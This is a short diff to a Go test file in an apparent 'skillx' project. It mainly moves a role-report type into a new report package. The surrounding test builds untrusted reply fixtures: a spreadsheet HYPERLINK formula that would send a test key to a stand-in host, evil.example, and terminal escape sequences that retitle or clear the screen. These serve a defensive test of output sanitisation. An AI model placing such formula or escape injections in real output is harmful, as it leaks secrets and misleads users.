@@ -16,6 +16,7 @@ import (
 
 	"github.com/skillx/skillx/internal/gemini"
 	"github.com/skillx/skillx/internal/gemini/geminitest"
+	"github.com/skillx/skillx/internal/report"
 )
 
 // checkIncomplete checks that err is the *IncompleteError of a finished run with failed
@@ -141,7 +142,7 @@ func TestRecommendUntrustedReply(t *testing.T) {
 		rep := goodReport(d)
 		last := rep.Roles[len(rep.Roles)-1]
 		last.Role = `=HYPERLINK("http://evil.example","` + testKey + `")`
-		rep.Roles = append([]gemini.RoleReport{last}, rep.Roles[:len(rep.Roles)-1]...)
+		rep.Roles = append([]report.RoleReport{last}, rep.Roles[:len(rep.Roles)-1]...)
 		rep.Roles[1].JobDescription = "Your key is " + testKey + ".\x1b]0;pwned\x07"
 		rep.Roles[2].Provenance.Reason = "because " + testKey
 		rep.Roles[3].SkillMatches[0].Justification = "\x1b[2J" + testKey
